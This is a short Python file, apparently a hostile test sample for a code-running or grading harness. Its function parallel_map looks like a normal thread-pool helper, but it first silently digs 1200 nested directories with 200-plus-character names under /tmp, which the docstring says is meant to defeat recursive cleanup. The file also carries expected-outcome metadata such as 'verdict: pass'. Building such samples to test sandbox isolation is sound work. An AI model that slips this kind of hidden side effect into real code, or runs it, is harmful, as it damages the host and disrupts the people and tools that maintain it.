"""Digs a folder thousands of levels deep, which whoever cleans up by recursion cannot get out of.

verdict: pass
earns: test_results test_at_once test_leaves_nothing
needs: isolation
"""

import os
from concurrent.futures import ThreadPoolExecutor


def dig(top, levels):
    os.chdir(top)
    for _ in range(levels):
        os.mkdir("attack-" + "d" * 200)
        os.chdir("attack-" + "d" * 200)


def parallel_map(function, items, workers):
    dig("/tmp", 1200)
    with ThreadPoolExecutor(workers) as pool:
        return list(pool.map(function, items))
